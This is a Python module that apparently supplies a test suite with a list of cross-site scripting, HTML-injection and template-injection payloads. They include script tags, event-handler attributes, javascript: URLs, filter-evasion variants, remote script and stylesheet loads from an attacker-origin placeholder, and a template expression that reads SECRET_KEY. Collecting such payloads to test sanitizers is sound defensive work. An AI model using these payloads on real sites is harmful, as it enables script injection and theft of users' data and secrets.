"""Texts that try to be code. `{run}` notes that it ran; `{foreign}` is an origin of an attacker."""

from __future__ import annotations

RUN = "window.payloadRan=true"

_PAYLOADS = (
    "<script>{run}</script>",
    "<script src={foreign}/x.js></script>",
    "<ScRiPt>{run}</sCrIpT>",
    "</title></textarea><script>{run}</script>",
    "</script><script>{run}</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    "<img src={foreign}/x.png>",
    "<img srcset={foreign}/x.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a href=javascript:{run}><text y=20>x</text></a></svg>",
    "<math href=javascript:{run}>x</math>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video src=x onerror={run}></video>",
    "<audio src={foreign}/x.mp3 autoplay></audio>",
    "<marquee onstart={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={foreign}/></iframe>",
    "<object data={foreign}/x></object>",
    "<embed src={foreign}/x>",
    "<base href={foreign}/>",
    "<meta http-equiv=refresh content='0;url={foreign}/'>",
    "<link rel=stylesheet href={foreign}/x.css>",
    "<link rel=preload as=script href={foreign}/x.js>",
    "<style>@import '{foreign}/x.css'</style>",
    "<p style=background:url({foreign}/x.png)>x</p>",
    "<form action={foreign}/><button autofocus>Connect</button></form>",
    "<a href=javascript:{run}>Connect</a>",
    "<a href='{foreign}/' ping={foreign}/ping>x</a>",
    "<div hx-get={foreign}/ hx-trigger=load></div>",
    "<div hx-on:load={run} data-hx-on-load={run}></div>",
    "<div data-alloy-token=x data-integration-id=x data-operation=install></div>",
    '" onmouseover={run} autofocus onfocus={run} x="',
    "' onmouseover={run} autofocus onfocus={run} x='",
    '"><script>{run}</script>',
    "'><img src=x onerror={run}>",
    "` onfocus={run} autofocus `",
    "javascript:{run}",
    "JaVaScRiPt:{run}//",
    "\tjavascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "{{% load x %}}{{{{ settings.SECRET_KEY }}}}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "\u202e<script>{run}</script>",
)


def payloads(foreign: str) -> list[str]:
    """Return the payloads of an attacker who listens at the foreign origin."""
    return [payload.format(run=RUN, foreign=foreign) for payload in _PAYLOADS]
